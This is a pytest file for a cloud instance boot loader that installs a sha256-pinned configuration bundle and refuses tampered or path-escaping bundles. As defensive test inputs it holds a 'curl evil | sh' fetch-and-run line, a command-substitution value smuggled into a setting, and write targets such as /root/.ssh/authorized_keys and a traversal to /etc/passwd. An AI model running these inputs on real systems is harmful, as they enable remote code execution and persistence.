"""The boot bundle: what the user data carries (little, with room to grow on every cloud), and the loader
(fetch_bundle.py) run for real against each cloud's object storage on loopback (signatures checked with the
cloud's own SDK): it installs a bundle whose bytes match the sha256 in the user data, waits out a role that has
not reached the storage service yet, refuses a bundle that does not match, writes nowhere but its allowed
places, and does nothing on a second boot."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from bootstrap_fakes import CloudStore, cloud_store_server, metadata_server
from sample_plans import sample_plan

from inferstack.bootstrap import BootstrapOptions, render_bootstrap
from inferstack.bootstrap.render import (
    BUNDLE_PREFIX,
    EC2_USER_DATA_LIMIT_BYTES,
    RenderedBootstrap,
    user_data_gzip,
)
from inferstack.spec import CLOUDS

FILES_DIR = Path(__file__).resolve().parents[2] / "inferstack" / "bootstrap" / "files"
BUCKET = "bundle-test"
HEADROOM = 0.25
"""Share of the smallest user-data limit (EC2's 16 KiB, before base64) every variant leaves free, gzipped."""


def rendered(cloud: str = "aws", variant: str = "cpu-llm", **options: object) -> RenderedBootstrap:
    plan = sample_plan(cloud, variant)  # type: ignore[arg-type]
    settings: dict[str, object] = {"model_bucket": BUCKET, "region": plan.region, "api_key_secret": "api-key",
                                   "hub_token_secret": "hub-token", **options}
    return render_bootstrap(plan, cloud, BootstrapOptions(**settings))  # type: ignore[arg-type]


def user_data_files(user_data: str) -> dict[str, str]:
    return {f["path"]: f["content"] for f in yaml.safe_load(user_data)["write_files"]}


@pytest.mark.parametrize("cloud", CLOUDS)
@pytest.mark.parametrize("variant", ["gpu-llm", "cpu-llm", "cpu-encoder", "gpu-encoder"])
@pytest.mark.parametrize("mode", ["auto", "container"])
def test_every_variant_leaves_a_quarter_of_the_smallest_user_data_limit_free(cloud: str, variant: str,
                                                                              mode: str) -> None:
    user_data = rendered(cloud, variant, install_mode=mode).user_data
    assert len(user_data_gzip(user_data)) <= (1 - HEADROOM) * EC2_USER_DATA_LIMIT_BYTES


def test_the_user_data_carries_only_the_loader_and_names_the_bundle_by_its_sha256() -> None:
    result = rendered()
    files = user_data_files(result.user_data)
    assert sorted(files) == ["/etc/inferstack/bootstrap.env", "/etc/systemd/system/inferstack-boot.service",
                             "/usr/local/lib/inferstack/cloud_access.py", "/usr/local/lib/inferstack/fetch_bundle.py"]
    sha256 = hashlib.sha256(result.bundle.encode()).hexdigest()
    assert result.bundle_sha256 == sha256 and result.bundle_key == f"{BUNDLE_PREFIX}{sha256}.json"
    settings = files["/etc/inferstack/bootstrap.env"]
    assert f"BUNDLE_SHA256={sha256}\n" in settings and f"BUNDLE_KEY={result.bundle_key}\n" in settings
    paths = [f["path"] for f in json.loads(result.bundle)["files"]]
    assert "/usr/local/lib/inferstack/boot.sh" in paths and "/etc/inferstack/gateway.conf" in paths


def test_an_unchanged_plan_renders_the_same_bundle_and_a_changed_one_another_key() -> None:
    assert rendered() == rendered()
    assert rendered().bundle_key != rendered(api_key_secret="another-key").bundle_key


#### The loader, run for real ####


def run_loader(tmp_path: Path, result: RenderedBootstrap, store: CloudStore, metadata: str,
               auth_grace_s: float = 0) -> tuple[int, str]:
    """fetch_bundle.py as shipped, with the user data's settings (endpoints moved to the loopback servers), installing
    under tmp_path/root instead of /."""
    settings = user_data_files(result.user_data)["/etc/inferstack/bootstrap.env"]
    settings = settings.replace("STORAGE_ENDPOINT=\n", f"STORAGE_ENDPOINT={store.url}\n").replace(
        "METADATA_ENDPOINT=\n", f"METADATA_ENDPOINT={metadata}\n")
    (tmp_path / "bootstrap.env").write_text(settings)
    env = {**os.environ, "INFERSTACK_CONFIG": str(tmp_path / "bootstrap.env"),
           "INFERSTACK_BUNDLE_STATE": str(tmp_path / "state" / "bundle.sha256"),
           "INFERSTACK_ROOT": str(tmp_path / "root"), "INFERSTACK_AUTH_GRACE_S": str(auth_grace_s)}
    process = subprocess.run([sys.executable, str(FILES_DIR / "fetch_bundle.py")], env=env, capture_output=True,
                             text=True, timeout=120)
    return process.returncode, process.stderr


@pytest.fixture(params=CLOUDS)
def cloud(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def store(cloud: str) -> Iterator[CloudStore]:
    with cloud_store_server(cloud, sample_plan(cloud, "cpu-llm").region) as fake:  # type: ignore[arg-type]
        yield fake


@pytest.fixture(scope="module")
def metadata() -> Iterator[str]:
    with metadata_server() as url:
        yield url


def test_the_loader_installs_the_bundle_it_was_told_to_expect_on_every_cloud(
        tmp_path: Path, cloud: str, store: CloudStore, metadata: str) -> None:
    result = rendered(cloud)
    store.objects[f"{BUCKET}/{result.bundle_key}"] = result.bundle.encode()
    code, log = run_loader(tmp_path, result, store, metadata)
    assert code == 0, log
    for entry in json.loads(result.bundle)["files"]:
        installed = tmp_path / "root" / entry["path"].lstrip("/")
        assert installed.read_text() == entry["content"]
        assert oct(installed.stat().st_mode & 0o777) == oct(int(entry["mode"], 8))
    assert (tmp_path / "state" / "bundle.sha256").read_text().strip() == result.bundle_sha256
    before = {p: p.stat().st_mtime_ns for p in (tmp_path / "root").rglob("*")}
    fetched = len(store.requests)
    code, log = run_loader(tmp_path, result, store, metadata)  # a second boot
    assert code == 0 and "already installed" in log
    assert len(store.requests) == fetched  # nothing fetched
    assert {p: p.stat().st_mtime_ns for p in (tmp_path / "root").rglob("*")} == before


def test_a_role_that_has_not_reached_the_storage_service_yet_is_waited_for(tmp_path: Path, metadata: str) -> None:
    result = rendered("aws")
    with cloud_store_server("aws", "us-east-1") as store:
        store.objects[f"{BUCKET}/{result.bundle_key}"] = result.bundle.encode()
        store.refuse_next = 2  # 403, as S3 answers while a new instance profile propagates
        code, log = run_loader(tmp_path, result, store, metadata, auth_grace_s=30)
        statuses = [status for _, _, status in store.requests]
    assert code == 0, log
    assert statuses[:2] == [403, 403] and statuses[-1] == 200


def test_a_bundle_whose_bytes_differ_from_the_user_datas_sha256_is_never_installed(
        tmp_path: Path, store: CloudStore, cloud: str, metadata: str) -> None:
    result = rendered(cloud)
    tampered = result.bundle.replace("set -euo pipefail", "curl evil | sh")
    store.objects[f"{BUCKET}/{result.bundle_key}"] = tampered.encode()
    code, log = run_loader(tmp_path, result, store, metadata)
    assert code == 3, log
    assert f"the user data expects {result.bundle_sha256}: not installed" in log
    assert not (tmp_path / "root").exists() and not (tmp_path / "state").exists()


@pytest.mark.parametrize("path", ["/etc/cron.d/inferstack", "/usr/local/lib/inferstack/../../../etc/passwd",
                                  "/root/.ssh/authorized_keys", "/etc/systemd/system/sshd.service",
                                  "/usr/local/lib/inferstack/sub/boot.sh", "usr/local/lib/inferstack/x.sh"])
def test_a_bundle_that_writes_outside_its_places_is_refused_whole(tmp_path: Path, metadata: str, path: str) -> None:
    result = rendered()
    document = json.loads(result.bundle)
    document["files"].append({"path": path, "mode": "0644", "content": "x"})
    bundle = json.dumps(document)
    sha256 = hashlib.sha256(bundle.encode()).hexdigest()
    forged = RenderedBootstrap(result.user_data.replace(result.bundle_sha256, sha256), bundle,
                               f"{BUNDLE_PREFIX}{sha256}.json", sha256)
    with cloud_store_server("aws", "us-east-1") as store:
        store.objects[f"{BUCKET}/{forged.bundle_key}"] = bundle.encode()
        code, log = run_loader(tmp_path, forged, store, metadata)
    assert code == 2, log
    assert "bundle writes outside the allowed places" in log
    assert not (tmp_path / "root").exists()


def test_settings_that_are_not_plain_key_value_lines_stop_the_loader(tmp_path: Path, metadata: str) -> None:
    result = rendered()
    broken = RenderedBootstrap(result.user_data.replace("DEVICE=cpu\n", "DEVICE=$(id>/tmp/pwned)\n"),
                               result.bundle, result.bundle_key, result.bundle_sha256)
    with cloud_store_server("aws", "us-east-1") as store:
        code, log = run_loader(tmp_path, broken, store, metadata)
        assert store.requests == []
    assert code == 2 and "not a KEY=VALUE setting" in log
    assert not Path("/tmp/pwned").exists()


def test_a_missing_bundle_fails_naming_the_storage(tmp_path: Path, metadata: str) -> None:
    with cloud_store_server("aws", "us-east-1") as store:
        code, log = run_loader(tmp_path, rendered(api_key_secret="never-stored"), store, metadata)
    assert code == 4, log
    assert "object storage unreachable or access denied" in log and "404" in log
